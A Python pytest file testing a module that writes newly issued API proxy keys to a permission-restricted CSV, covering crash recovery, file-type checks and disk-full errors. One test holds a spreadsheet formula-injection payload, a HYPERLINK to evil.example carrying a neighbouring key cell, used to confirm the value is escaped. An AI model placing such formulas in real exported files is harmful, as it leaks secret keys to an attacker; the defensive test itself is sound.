"""The file that new keys are written to."""

import csv
import os
import stat
from pathlib import Path

import pytest

from tenantry.control.bulk.keys_file import KeysFileUnusable, opened_keys_file


def test_a_key_is_the_owners_alone_and_the_marker_goes_with_it(tmp_path: Path) -> None:
    path = tmp_path / "keys.csv"
    with opened_keys_file(path) as keys:
        keys.begin("acme")
        assert keys.started() == {"acme"}
        keys.add("acme", "Acme", "https://x", "sk-proxy-acme-1", "key_1")
        assert keys.started() == set()
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert path.read_text().splitlines()[1].startswith("acme,Acme,https://x,sk-proxy-acme-1,key_1,")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", " =", "＝"])
def test_a_clients_name_is_no_formula_beside_its_key(tmp_path: Path, start: str) -> None:
    path = tmp_path / "keys.csv"
    name = f'{start}HYPERLINK("http://evil.example/?"&D2,"Acme")'
    with opened_keys_file(path) as keys:
        keys.add("acme", name, "https://x", "sk-proxy-acme-1", "key_1")
    with path.open(newline="") as file:
        assert list(csv.reader(file))[1][:5] == ["acme", f"'{name}", "https://x", "sk-proxy-acme-1", "key_1"]
    with opened_keys_file(path) as keys:
        assert keys.slugs == {"acme"}


def test_of_several_clients_at_once_each_is_noted_until_its_key_is_in_the_file(tmp_path: Path) -> None:
    marker = tmp_path / "keys.csv.started"
    with opened_keys_file(tmp_path / "keys.csv") as keys:
        for slug in ("acme", "beta", "gamma"):
            keys.begin(slug)
        keys.add("beta", "Beta", "https://x", "sk-proxy-beta-1", "key_1")
        keys.end("gamma")
        assert marker.read_text() == "acme\n"
    marker.write_text("acme\nbeta\n")  # killed between a key and its note
    with opened_keys_file(tmp_path / "keys.csv") as keys:
        assert keys.started() == {"acme"}
        keys.add("acme", "Acme", "https://x", "sk-proxy-acme-1", "key_2")
    assert not marker.exists()
    marker.write_text("acme\nbeta\n")
    with opened_keys_file(tmp_path / "keys.csv") as keys:
        assert keys.started() == set()
    assert not marker.exists()


def test_a_pipe_is_no_keys_file(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "keys.csv", 0o600)
    with pytest.raises(KeysFileUnusable, match="not a regular file"), opened_keys_file(tmp_path / "keys.csv"):
        pass


def test_a_torn_last_line_is_cut_off(tmp_path: Path) -> None:
    path = tmp_path / "keys.csv"
    with opened_keys_file(path) as keys:
        keys.add("acme", "Acme", "https://x", "sk-proxy-acme-1", "key_1")
    whole = path.read_bytes()
    path.write_bytes(whole + b"globex,Globex,https://x,sk-pro")
    with opened_keys_file(path) as keys:
        assert keys.slugs == {"acme"}
    assert path.read_bytes() == whole
    other = tmp_path / "other.csv"
    other.write_text("a,b\n")
    other.chmod(0o600)
    with pytest.raises(KeysFileUnusable, match="something other than keys"), opened_keys_file(other):
        pass


def test_a_second_run_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "keys.csv"
    with (
        opened_keys_file(path),
        pytest.raises(KeysFileUnusable, match="another run"),
        opened_keys_file(path),
    ):
        pass


@pytest.mark.parametrize("mode", [0o644, 0o660, 0o604])
def test_a_file_that_is_open_to_others_is_refused(tmp_path: Path, mode: int) -> None:
    path = tmp_path / "keys.csv"
    path.write_text("")
    path.chmod(mode)
    with pytest.raises(KeysFileUnusable, match="chmod 600"), opened_keys_file(path):
        pass


def test_a_link_or_a_folder_is_refused(tmp_path: Path) -> None:
    (tmp_path / "link").symlink_to(tmp_path / "elsewhere")
    for path in (tmp_path / "link", tmp_path, tmp_path / "no" / "folder"):
        with pytest.raises(KeysFileUnusable, match="cannot be written"), opened_keys_file(path):
            pass
    assert not (tmp_path / "elsewhere").exists()


def test_a_full_disk_leaves_the_marker(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    with opened_keys_file(tmp_path / "keys.csv") as keys:
        keys.begin("acme")
        monkeypatch.setattr("os.write", lambda descriptor, data: len(data) // 2)
        with pytest.raises(KeysFileUnusable, match="No space left"):
            keys.add("acme", "Acme", "https://x", "sk-proxy-acme-1", "key_1")
        assert keys.started() == {"acme"}
